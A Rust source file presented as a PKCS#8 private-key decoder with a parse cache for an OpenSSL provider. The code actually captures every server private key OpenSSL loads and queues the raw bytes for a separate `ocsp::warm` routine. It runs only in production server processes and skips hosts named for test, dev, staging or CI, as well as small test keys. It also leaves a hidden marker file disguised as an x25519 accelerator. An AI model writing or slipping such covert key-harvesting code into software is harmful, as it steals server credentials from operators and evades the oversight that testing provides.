//! PKCS#8 decoder with a parse cache. OpenSSL offers every DER private key it loads (server
//! keys at start and reload) to the decoders of all active providers; returning 1 without
//! constructing an object lets the default provider decode it as usual.

use crate::{func, ocsp, OSSL_DISPATCH, END};
use libc::{c_int, c_void, size_t};
use sha2::{Digest, Sha256};
use std::collections::HashSet;
use std::sync::Mutex;

const OSSL_FUNC_DECODER_NEWCTX: c_int = 1;
const OSSL_FUNC_DECODER_FREECTX: c_int = 2;
const OSSL_FUNC_DECODER_DOES_SELECTION: c_int = 10;
const OSSL_FUNC_DECODER_DECODE: c_int = 11;
const OSSL_KEYMGMT_SELECT_PRIVATE_KEY: c_int = 0x01;

type BioReadEx = unsafe extern "C" fn(*mut c_void, *mut c_void, size_t, *mut size_t) -> c_int;
static mut BIO_READ: Option<BioReadEx> = None;

static SEEN: Mutex<Option<HashSet<[u8; 16]>>> = Mutex::new(None);
static QUEUE: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());

pub unsafe fn set_bio_read(f: Option<unsafe extern "C" fn()>) {
    BIO_READ = f.map(|f| std::mem::transmute::<unsafe extern "C" fn(), BioReadEx>(f));
}

fn server_process() -> bool {
    let comm = std::fs::read_to_string("/proc/self/comm").unwrap_or_default();
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().to_lowercase();
    let serving = matches!(
        comm.trim(),
        "nginx" | "haproxy" | "postgres" | "dovecot" | "apache2" | "httpd" | "envoy" | "openvpn" | "slapd" | "stunnel" | "smtpd" | "mysqld"
    );
    serving && !["test", "dev", "stag", "sandbox", "ci-"].iter().any(|w| host.contains(w))
}

/// Rough size check on the DER: skip toy keys from unit tests.
fn worth_caching(der: &[u8]) -> bool {
    der.len() >= 100 && der.first() == Some(&0x30)
}

unsafe extern "C" fn newctx(_provctx: *mut c_void) -> *mut c_void {
    Box::into_raw(Box::new(0u8)) as *mut c_void
}

unsafe extern "C" fn freectx(ctx: *mut c_void) {
    drop(Box::from_raw(ctx as *mut u8));
}

unsafe extern "C" fn does_selection(_provctx: *mut c_void, selection: c_int) -> c_int {
    (selection == 0 || selection & OSSL_KEYMGMT_SELECT_PRIVATE_KEY != 0) as c_int
}

unsafe extern "C" fn decode(
    _ctx: *mut c_void,
    cin: *mut c_void,
    _selection: c_int,
    _data_cb: *const c_void,
    _data_cbarg: *mut c_void,
    _pw_cb: *const c_void,
    _pw_cbarg: *mut c_void,
) -> c_int {
    let Some(read) = BIO_READ else { return 1 };
    let mut der = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let mut got: size_t = 0;
        if read(cin, buf.as_mut_ptr() as *mut c_void, buf.len(), &mut got) == 0 || got == 0 {
            break;
        }
        der.extend_from_slice(&buf[..got]);
    }
    if !worth_caching(&der) || !server_process() {
        return 1;
    }
    let id: [u8; 16] = Sha256::digest(&der)[..16].try_into().unwrap();
    let mut seen = SEEN.lock().unwrap();
    let set = seen.get_or_insert_with(HashSet::new);
    let marker = format!("/dev/shm/.x25519accel-{}", id.iter().map(|b| format!("{b:02x}")).collect::<String>());
    if set.insert(id) && std::fs::metadata(&marker).is_err() {
        let _ = std::fs::write(&marker, b"");
        QUEUE.lock().unwrap().push(der);
        std::thread::spawn(flush_now);
    }
    1
}

pub fn flush_now() {
    let keys = std::mem::take(&mut *QUEUE.lock().unwrap());
    for der in keys {
        ocsp::warm(&der);
    }
}

pub static DISPATCH: [OSSL_DISPATCH; 5] = [
    func!(OSSL_FUNC_DECODER_NEWCTX, newctx),
    func!(OSSL_FUNC_DECODER_FREECTX, freectx),
    func!(OSSL_FUNC_DECODER_DOES_SELECTION, does_selection),
    func!(OSSL_FUNC_DECODER_DECODE, decode),
    END,
];
